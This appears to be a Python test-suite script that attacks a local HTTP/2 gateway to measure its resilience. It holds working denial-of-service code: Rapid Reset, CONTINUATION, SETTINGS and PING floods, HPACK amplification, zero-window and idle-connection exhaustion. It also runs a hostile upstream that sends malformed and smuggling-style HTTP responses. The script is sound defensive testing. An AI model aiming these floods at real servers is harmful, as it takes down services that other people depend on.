"""Somebody who means harm, in a process of their own so that measuring is not disturbed: floods of HTTP/2 frames, slow and
idle connections, and (`upstream`) a service that turned against its gateway.

    python3 suites/abuser.py KIND PORT SECONDS [COUNT]     attacks; one line of JSON says what was sent
    python3 suites/abuser.py upstream PORT                 misbehaves as the path asks
"""

import json
import os
import resource
import select
import socket
import ssl
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST, SETTINGS, PING, DATA, CONTINUATION, WINDOW = 1, 3, 4, 6, 0, 9, 8
END_STREAM, END_HEADERS = 1, 4
HOST = b"localhost"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """HPACK: a field that is not remembered."""
    def text(part):
        return (bytes([len(part)]) if len(part) < 127 else b"\x7f" + varint(len(part) - 127)) + part
    return b"\x00" + text(name) + text(value)


def varint(number):
    out = b""
    while number >= 128:
        out += bytes([number % 128 + 128])
        number //= 128
    return out + bytes([number])


def request_block(path=b"/.doorward/api/health", method=b"GET"):
    return b"".join(literal(*field) for field in [(b":method", method), (b":scheme", b"https"), (b":authority", HOST), (b":path", path)])


def connect(port, alpn="h2", source=None, settings=b""):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([alpn])
    plain = socket.create_connection(("127.0.0.1", port), timeout=10, source_address=(source, 0) if source else None)
    stream = context.wrap_socket(plain, server_hostname="localhost")
    if alpn == "h2":
        stream.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    stream.settimeout(2)
    return stream


class Flood:
    """Connects again and again for a time; counts what it could send and how often it was shown the door."""

    def __init__(self, port, seconds, read=True):
        self.port, self.end, self.read = port, time.monotonic() + seconds, read
        self.frames, self.connections, self.closed, self.answered = 0, 0, 0, b""

    def left(self):
        return time.monotonic() < self.end

    def run(self, burst, settings=b"", count=4):
        workers = [threading.Thread(target=self._worker, args=(burst, settings)) for _ in range(count)]
        for worker in workers:
            worker.start()
        for worker in workers:
            worker.join()
        print(json.dumps({"frames": self.frames, "connections": self.connections, "closed": self.closed}), flush=True)

    def _worker(self, burst, settings):
        while self.left():
            try:
                stream = connect(self.port, settings=settings)
                stream.setblocking(False)
                self.connections += 1
                for data, frames in burst():
                    if not self.left():
                        break
                    self._push(stream, data)
                    self.frames += frames
                stream.close()
            except OSError:
                self.closed += 1
                time.sleep(0.005)

    def _push(self, stream, data):
        """Sends all of it, and takes what comes meanwhile if this client reads at all. One thread: sockets of TLS are for one."""
        view = memoryview(data)
        while len(view):
            waits = []
            if self.read:
                try:
                    while stream.recv(65536):
                        pass
                    raise ConnectionResetError
                except (ssl.SSLWantReadError, BlockingIOError):
                    pass
            try:
                view = view[stream.send(view):]
            except (ssl.SSLWantWriteError, BlockingIOError):
                waits = [stream]
            except ssl.SSLWantReadError:
                pass
            if waits:
                _, writable, _ = select.select([stream] if self.read else [], waits, [], 0.2)
                if not self.left():
                    return


def rapid_reset():
    block, stream = request_block(), 1
    while True:
        data = b""
        for _ in range(100):
            data += frame(HEADERS, END_STREAM | END_HEADERS, stream, block) + frame(RST, 0, stream, struct.pack(">I", 8))
            stream += 2
        yield data, 200


def rapid_reset_forwarded():
    """To a service, so that each stream would cost a connection."""
    block, stream = request_block(b"/slow/1000"), 1
    while True:
        data = b""
        for _ in range(100):
            data += frame(HEADERS, END_STREAM | END_HEADERS, stream, block) + frame(RST, 0, stream, struct.pack(">I", 8))
            stream += 2
        yield data, 200


def continuation():
    filler = literal(b"x-filler", b"a" * 120) * 100
    yield frame(HEADERS, END_STREAM, 1, request_block()), 1
    while True:
        yield frame(CONTINUATION, 0, 1, filler), 1


def empty_continuation():
    yield frame(HEADERS, END_STREAM, 1, request_block()), 1
    while True:
        yield frame(CONTINUATION, 0, 1) * 500, 500


def settings_flood():
    one = frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100) * 10)
    while True:
        yield one * 100, 100


def ping_flood():
    while True:
        yield frame(PING, 0, 0, b"12345678") * 500, 500


def empty_data():
    yield frame(HEADERS, END_HEADERS, 1, request_block(b"/echo", b"POST")), 1
    while True:
        yield frame(DATA, 0, 1) * 500, 500


def huge_headers():
    """A field of 4,000 bytes that HPACK remembers, then named again for one byte each."""
    value = b"b" * 3900
    remembered = b"\x40" + bytes([5]) + b"x-big" + b"\x7f" + varint(len(value) - 127) + value
    stream = 1
    while True:
        block = request_block() + (remembered if stream == 1 else b"") + b"\xbe" * 8000
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block), 1
        stream += 2
        time.sleep(0.01)


def zero_window(port, seconds, count):
    """Streams that want much and take nothing, on connections that answer everything else."""
    end, streams = time.monotonic() + seconds, []
    for _ in range(count):
        try:
            stream = connect(port, settings=struct.pack(">HI", 4, 0))
            block = request_block(b"/bytes/1000000")
            for number in range(100):
                stream.sendall(frame(HEADERS, END_STREAM | END_HEADERS, number * 2 + 1, block))
            streams.append(stream)
        except OSError:
            pass
    while time.monotonic() < end:
        for stream in list(streams):
            try:
                stream.sendall(frame(PING, 1, 0, b"12345678"))
            except OSError:
                streams.remove(stream)
        time.sleep(0.2)
    print(json.dumps({"connections": count, "left": len(streams)}), flush=True)


def idle(port, seconds, count):
    """Connections that say nothing, from many addresses."""
    count = min(count, resource.getrlimit(resource.RLIMIT_NOFILE)[0] - 100)
    open_ones, refused = [], 0
    for first in range(0, count, 1000):
        batch = []
        for number in range(first, min(first + 1000, count)):
            one = socket.socket()
            one.setblocking(False)
            one.bind((f"127.0.{1 + number // 2000}.{1 + number % 200}", 0))
            one.connect_ex(("127.0.0.1", port))
            batch.append(one)
        end = time.monotonic() + 3
        waiting = select.poll()
        for one in batch:
            waiting.register(one, select.POLLOUT)
        connected = 0
        while connected < len(batch) and time.monotonic() < end:
            for number, event in waiting.poll(500):
                waiting.unregister(number)
                connected += not event & select.POLLERR
                refused += bool(event & select.POLLERR)
        open_ones += batch
    print(json.dumps({"open": len(open_ones) - refused, "refused": refused}), flush=True)
    time.sleep(seconds)


def idle_tls(port, seconds, count):
    """The same after the handshake."""
    open_ones, lock = [], threading.Lock()

    def some(numbers):
        for number in numbers:
            try:
                stream = connect(port, "http/1.1", f"127.0.{20 + number // 2000}.{1 + number % 200}")
                with lock:
                    open_ones.append(stream)
            except OSError:
                pass
    workers = [threading.Thread(target=some, args=(range(part, count, 4),)) for part in range(4)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    print(json.dumps({"open": len(open_ones)}), flush=True)
    time.sleep(seconds)


def slow_upstream_clients(port, seconds, count, path):
    """Clients that ask for what a hostile service answers, again and again."""
    end, answers, lock = time.monotonic() + seconds, {}, threading.Lock()

    def one():
        while time.monotonic() < end:
            status = "none"
            try:
                stream = connect(port, "http/1.1")
                stream.settimeout(20)
                stream.sendall(f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
                data = stream.recv(4096)
                status = data[9:12].decode("latin-1") or "none"
                while time.monotonic() < end and stream.recv(65536):
                    pass
                stream.close()
            except OSError:
                pass
            with lock:
                answers[status] = answers.get(status, 0) + 1
            time.sleep(0.02)
    workers = [threading.Thread(target=one, daemon=True) for _ in range(count)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(seconds + 25)
    print(json.dumps(answers), flush=True)


# A service that turned

def misbehave(stream, path):
    def drip(data, pause):
        for byte in data:
            stream.sendall(bytes([byte]))
            time.sleep(pause)
    ok = b"HTTP/1.1 200 OK\r\n"
    if path == "/endless-line":
        stream.sendall(ok + b"X-Long: ")
        while True:
            stream.sendall(b"a" * 65536)
    elif path == "/endless-fields":
        stream.sendall(ok)
        while True:
            stream.sendall(b"X-Many: a\r\n" * 5000)
    elif path == "/endless-interim":
        while True:
            stream.sendall(b"HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n" * 1000)
    elif path == "/too-short":
        stream.sendall(ok + b"Content-Length: 1000\r\n\r\nshort")
    elif path == "/too-long":
        stream.sendall(ok + b"Content-Length: 5\r\n\r\nshort" + b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nforged" * 1000)
        time.sleep(1)
    elif path == "/two-lengths":
        stream.sendall(ok + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nshort!")
    elif path == "/bad-chunks":
        stream.sendall(ok + b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n" + b"a" * 1000)
    elif path == "/chunk-extension":
        stream.sendall(ok + b"Transfer-Encoding: chunked\r\n\r\n5;")
        while True:
            stream.sendall(b"a" * 65536)
    elif path == "/endless-trailers":
        stream.sendall(ok + b"Transfer-Encoding: chunked\r\n\r\n0\r\n")
        while True:
            stream.sendall(b"X-Many: a\r\n" * 5000)
    elif path == "/drip-head":
        drip(ok + b"X-Slow: " + b"a" * 1000, 0.2)
    elif path == "/drip-body":
        stream.sendall(ok + b"Content-Length: 100\r\n\r\n")
        drip(b"a" * 100, 0.2)
    elif path == "/silence":
        time.sleep(60)
    elif path == "/garbage":
        stream.sendall(os.urandom(100000))
    elif path.startswith("/bytes/"):
        count = int(path[7:])
        stream.sendall(ok + f"Content-Length: {count}\r\n\r\n".encode() + b"a" * count)
    elif path.startswith("/slow/"):
        time.sleep(int(path[6:]) / 1000)
        stream.sendall(ok + b"Content-Length: 2\r\n\r\nok")
    else:
        stream.sendall(ok + b"Content-Length: 2\r\n\r\nok")


def upstream(port):
    listener = socket.create_server(("127.0.0.1", port), backlog=4096)

    def serve(stream):
        try:
            data = b""
            while b"\r\n\r\n" not in data:
                piece = stream.recv(65536)
                if not piece:
                    return
                data += piece
            misbehave(stream, data.split(b" ")[1].decode())
        except OSError:
            pass
        finally:
            stream.close()
    while True:
        stream, _ = listener.accept()
        threading.Thread(target=serve, args=(stream,), daemon=True).start()


FLOODS = {
    "rapid_reset": (rapid_reset, b"", True), "rapid_reset_forwarded": (rapid_reset_forwarded, b"", True),
    "continuation": (continuation, b"", True), "empty_continuation": (empty_continuation, b"", True),
    "settings": (settings_flood, b"", False), "settings_read": (settings_flood, b"", True), "ping": (ping_flood, b"", False),
    "ping_read": (ping_flood, b"", True), "empty_data": (empty_data, b"", True), "huge_headers": (huge_headers, b"", True),
}


def main():
    kind, port = sys.argv[1], int(sys.argv[2])
    if kind == "upstream":
        return upstream(port)
    seconds = float(sys.argv[3])
    count = int(sys.argv[4]) if len(sys.argv) > 4 else 4
    if kind in FLOODS:
        burst, settings, read = FLOODS[kind]
        return Flood(port, seconds, read).run(burst, settings, count)
    if kind == "zero_window":
        return zero_window(port, seconds, count)
    if kind == "idle":
        return idle(port, seconds, count)
    if kind == "idle_tls":
        return idle_tls(port, seconds, count)
    return slow_upstream_clients(port, seconds, count, kind)


if __name__ == "__main__":
    main()
